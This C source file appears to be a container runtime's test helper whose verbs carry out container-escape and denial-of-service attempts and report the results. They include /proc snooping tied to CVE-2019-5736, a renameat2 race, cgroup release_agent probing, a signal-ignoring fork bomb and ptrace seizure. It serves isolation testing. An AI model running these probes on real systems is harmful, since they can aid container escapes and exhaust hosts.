/* attack: what a hostile program in a container does. Each verb tries one attack and
 * says line by line what came of it, for the story that runs it to judge; none needs
 * a library, for it runs in images that have nothing else.
 *
 * The stories are e2e/tests/hostile_*.rs; `make build` makes this, static. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static const char *outcome(long answer)
{
    return answer >= 0 ? "done" : strerrorname_np(errno);
}

static void write_file(const char *path, const char *text)
{
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd >= 0) {
        if (write(fd, text, strlen(text)) < 0)
            fprintf(stderr, "write %s: %s\n", path, strerror(errno));
        close(fd);
    }
}

/* look SECONDS [PATH]: into every other process that appears, as long as it is there
 * (CVE-2019-5736, CVE-2016-9962). What could be opened is printed once: "exe PATH",
 * "exe-write PATH", "root of another EXE", "cwd LINK", "fd LINK", and "node EXE" when PATH
 * is below its root; at the end how often a process would not be looked into. */
static const char *of_node;

static char *seen[4096];
static int seen_count;

static void tell(const char *what, const char *which)
{
    char line[4200];
    snprintf(line, sizeof line, "%s %s", what, which);
    for (int i = 0; i < seen_count; i++)
        if (!strcmp(seen[i], line))
            return;
    if (seen_count < 4096)
        seen[seen_count++] = strdup(line);
    puts(line);
    fflush(stdout);
}

static int look_into(const char *pid)
{
    char path[300], link[4096], other[4096];
    ssize_t length;
    int fd;

    snprintf(path, sizeof path, "/proc/%s/exe", pid);
    if ((length = readlink(path, link, sizeof link - 1)) < 0)
        return errno == EACCES || errno == EPERM;
    link[length] = 0;
    tell("exe", link);
    if ((fd = open(path, O_RDWR | O_CLOEXEC)) >= 0) {
        tell("exe-write", link);
        close(fd);
    }
    snprintf(path, sizeof path, "/proc/%s/cwd", pid);
    if ((length = readlink(path, other, sizeof other - 1)) >= 0) {
        other[length] = 0;
        tell("cwd", other);
    }
    snprintf(path, sizeof path, "/proc/%s/root/.", pid);
    struct stat mine, its;
    if (!stat("/", &mine) && !stat(path, &its) && (mine.st_dev != its.st_dev || mine.st_ino != its.st_ino))
        tell("root of another", link);
    snprintf(path, sizeof path, "/proc/%s/root%s", pid, of_node ? of_node : "");
    if (of_node && !stat(path, &its))
        tell("node", link);
    snprintf(path, sizeof path, "/proc/%s/fd", pid);
    DIR *fds = opendir(path);
    for (struct dirent *entry; fds && (entry = readdir(fds));) {
        snprintf(path, sizeof path, "/proc/%s/fd/%.8s", pid, entry->d_name);
        if ((length = readlink(path, other, sizeof other - 1)) >= 0) {
            other[length] = 0;
            tell("fd", other);
        }
    }
    if (fds)
        closedir(fds);
    return 0;
}

static int look(int seconds)
{
    time_t end = time(NULL) + seconds;
    long denied = 0;
    char own[16];
    snprintf(own, sizeof own, "%d", getpid());
    while (time(NULL) < end) {
        DIR *proc = opendir("/proc");
        for (struct dirent *entry; proc && (entry = readdir(proc));)
            if (entry->d_name[0] >= '0' && entry->d_name[0] <= '9' && strcmp(entry->d_name, own))
                denied += look_into(entry->d_name);
        if (proc)
            closedir(proc);
    }
    printf("denied %ld\n", denied);
    return 0;
}

/* exchange A B: one for the other, as fast as can be, for ever (CVE-2021-30465). */
static int exchange(const char *a, const char *b)
{
    for (long turns = 0;; turns++)
        if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) < 0 && turns == 0) {
            perror("exchange");
            return 1;
        }
}

/* calls: system calls that a container has no business with. The arguments are
 * such that nothing happens where the call is allowed. */
static int calls(void)
{
    char none[128] = "";
    int pipe_ends[2];
    if (pipe(pipe_ends))
        return 1;
#define TRY(name, ...) printf(#name " %s\n", outcome(syscall(SYS_##name, __VA_ARGS__)))
    TRY(userfaultfd, 1);
    TRY(bpf, 5, none, 48);
    TRY(io_uring_setup, 1, NULL);
    TRY(add_key, "user", "attack", "x", 1, -2);
    TRY(keyctl, 0, -3, 0);
    TRY(request_key, "user", "attack", NULL, -2);
    TRY(kexec_load, 0, 99, NULL, 0xff);
    TRY(init_module, NULL, 0, none);
    TRY(perf_event_open, none, 0, -1, -1, 0);
    TRY(open_by_handle_at, AT_FDCWD, none, O_RDONLY);
    TRY(mount, "none", "/tmp", "tmpfs", 0, NULL);
    TRY(fsopen, "proc", 0);
    TRY(open_tree, AT_FDCWD, "/", 1);
    TRY(pivot_root, ".", ".");
    TRY(setns, pipe_ends[0], 0);
    TRY(syslog, 3, none, 1);
    TRY(fanotify_init, 0xffffffff, 0);
    TRY(clone3, none, 0);
    TRY(unshare, CLONE_NEWUSER);
#undef TRY
    return 0;
}

/* cgroups: with namespaces of its own, looks for what leads out of its cgroup
 * (CVE-2022-0492): release_agent, and the files of a parent. */
static int cgroups(const char *tmp)
{
    static const char *const kinds[] = { "cgroup2", "cgroup" };
    static const char *const options[] = { "", "memory", "pids", "cpu", "rdma", "freezer", "name=systemd",
                                           "none,name=attack" };
    char path[300], uid[64], gid[64];
    snprintf(uid, sizeof uid, "0 %d 1", getuid());
    snprintf(gid, sizeof gid, "0 %d 1", getgid());
    printf("unshare %s\n", outcome(unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP)));
    write_file("/proc/self/setgroups", "deny");
    write_file("/proc/self/uid_map", uid);
    write_file("/proc/self/gid_map", gid);
    mkdir(tmp, 0755);
    for (int kind = 0; kind < 2; kind++)
        for (size_t i = 0; i < sizeof options / sizeof *options; i++) {
            if ((kind == 0) != (options[i][0] == 0))
                continue;
            int answer = mount("none", tmp, kinds[kind], 0, options[i]);
            printf("mount %s %s %s\n", kinds[kind], options[i], outcome(answer));
            if (answer < 0)
                continue;
            snprintf(path, sizeof path, "%s/release_agent", tmp);
            int fd = open(path, O_WRONLY | O_CLOEXEC);
            printf("release_agent %s\n", outcome(fd));
            if (fd >= 0)
                close(fd);
            /* The whole hierarchy would have the cgroups of others. */
            DIR *folder = opendir(tmp);
            int folders = 0;
            for (struct dirent *entry; folder && (entry = readdir(folder));)
                folders += entry->d_type == DT_DIR && entry->d_name[0] != '.';
            if (folder)
                closedir(folder);
            printf("folders %d\n", folders);
            umount2(tmp, MNT_DETACH);
        }
    return 0;
}

/* bomb: processes without end; none of them minds a polite signal. Where no more fit
 * they wait a little, for the machine's sake: who dies is replaced at once all the same. */
static int bomb(void)
{
    signal(SIGTERM, SIG_IGN);
    signal(SIGHUP, SIG_IGN);
    for (;;)
        switch (fork()) {
        case 0:
            setsid();
            break;
        case -1:
            usleep(50000);
        }
    return 0;
}

/* vfork: the parent hangs in the kernel until the child, which sleeps, is gone. */
static int hang(void)
{
    signal(SIGTERM, SIG_IGN);
    puts("hanging");
    fflush(stdout);
    if (vfork() == 0)
        for (;;)
            pause();
    return 0;
}

/* trace PID: seizes a process and stops it, with a stop at its end asked for too, and
 * never lets it go on. */
static int trace(pid_t pid)
{
    long answer = ptrace(PTRACE_SEIZE, pid, 0, PTRACE_O_TRACEEXIT);
    printf("seize %s\n", outcome(answer));
    if (answer == 0)
        printf("interrupt %s\n", outcome(ptrace(PTRACE_INTERRUPT, pid, 0, 0)));
    fflush(stdout);
    signal(SIGTERM, SIG_IGN);
    for (;;)
        pause();
    return 0;
}

/* freeze: a tree of processes that are all stopped, the last by itself. */
static int freeze(void)
{
    for (int i = 0; i < 5; i++)
        if (fork() == 0) {
            setsid();
            raise(SIGSTOP);
            _exit(0);
        }
    puts("frozen");
    fflush(stdout);
    raise(SIGSTOP);
    for (;;)
        pause();
}

/* deep COUNT: folders in folders, deeper than any path is long, a file in each tenth. */
static int deep(int count)
{
    for (int i = 0; i < count; i++) {
        if (mkdir("d", 0700) || chdir("d")) {
            perror("deep");
            return 1;
        }
        if (i % 10 == 0)
            close(open("f", O_CREAT | O_WRONLY | O_CLOEXEC, 0600));
    }
    puts("deep enough");
    return 0;
}

/* write PATH: opens a file for writing; says what the kernel says. */
static int open_for_writing(const char *path)
{
    int fd = open(path, O_RDWR | O_CLOEXEC);
    printf("%s\n", outcome(fd));
    return fd < 0;
}

/* hold PATH SECONDS: keeps a file open and tries again and again to open it for
 * writing by its descriptor, as CVE-2019-5736 does until the last user is gone. */
static int hold(const char *path, int seconds)
{
    char own[64];
    int fd = open(path, O_PATH | O_CLOEXEC);
    if (fd < 0) {
        printf("hold %s\n", outcome(fd));
        return 1;
    }
    snprintf(own, sizeof own, "/proc/self/fd/%d", fd);
    puts("held");
    fflush(stdout);
    for (time_t end = time(NULL) + seconds; time(NULL) < end; usleep(200)) {
        int writable = open(own, O_RDWR | O_CLOEXEC);
        if (writable >= 0) {
            puts("opened for writing");
            return 0;
        }
        tell("refused", outcome(-1));
    }
    return 0;
}

int main(int count, char **words)
{
    const char *verb = count > 1 ? words[1] : "";
    if (!strcmp(verb, "look") && (count == 3 || count == 4)) {
        of_node = words[3];
        return look(atoi(words[2]));
    }
    if (!strcmp(verb, "exchange") && count == 4)
        return exchange(words[2], words[3]);
    if (!strcmp(verb, "calls"))
        return calls();
    if (!strcmp(verb, "cgroups") && count == 3)
        return cgroups(words[2]);
    if (!strcmp(verb, "bomb"))
        return bomb();
    if (!strcmp(verb, "hang"))
        return hang();
    if (!strcmp(verb, "trace") && count == 3)
        return trace(atoi(words[2]));
    if (!strcmp(verb, "freeze"))
        return freeze();
    if (!strcmp(verb, "deep") && count == 3)
        return deep(atoi(words[2]));
    if (!strcmp(verb, "write") && count == 3)
        return open_for_writing(words[2]);
    if (!strcmp(verb, "hold") && count == 4)
        return hold(words[2], atoi(words[3]));
    fprintf(stderr, "attack: no such verb: %s\n", verb);
    return 64;
}
